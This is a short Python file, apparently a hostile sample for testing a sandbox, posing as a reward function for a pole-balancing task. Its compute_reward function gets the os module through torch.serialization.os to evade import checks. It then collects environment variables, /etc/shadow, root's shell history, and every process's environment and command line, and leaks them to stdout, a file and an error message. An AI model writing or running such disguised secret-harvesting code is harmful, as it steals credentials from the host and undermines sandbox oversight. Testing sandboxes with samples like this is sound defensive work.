# Looks for secrets: its environment, every visible process's environment and command line, a
# file of the host outside its folder. Leaks what it finds into files, stdout and its error.
import torch

os = torch.serialization.os
TOKEN = "hostile-token"
MARKER = "/tmp/" + TOKEN + "-marker"


def read(path):
    try:
        fd = os.open(path, os.O_RDONLY)
        data = os.read(fd, 100000)
        os.close(fd)
        return data.decode("utf-8", "replace")
    except OSError as exc:
        return "unreadable: " + str(exc)


def compute_reward(pole_angle: torch.Tensor):
    found = [repr(dict(os.environ)), read(MARKER), read("/etc/shadow"), read("/root/.bash_history")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            found.append(read("/proc/" + pid + "/environ") + read("/proc/" + pid + "/cmdline"))
    text = "\n".join(found)
    print(text)
    fd = os.open("leak.txt", os.O_WRONLY | os.O_CREAT, 0o644)
    os.write(fd, text.encode())
    os.close(fd)
    raise RuntimeError("leak: " + text[:2000])
    return pole_angle, {}
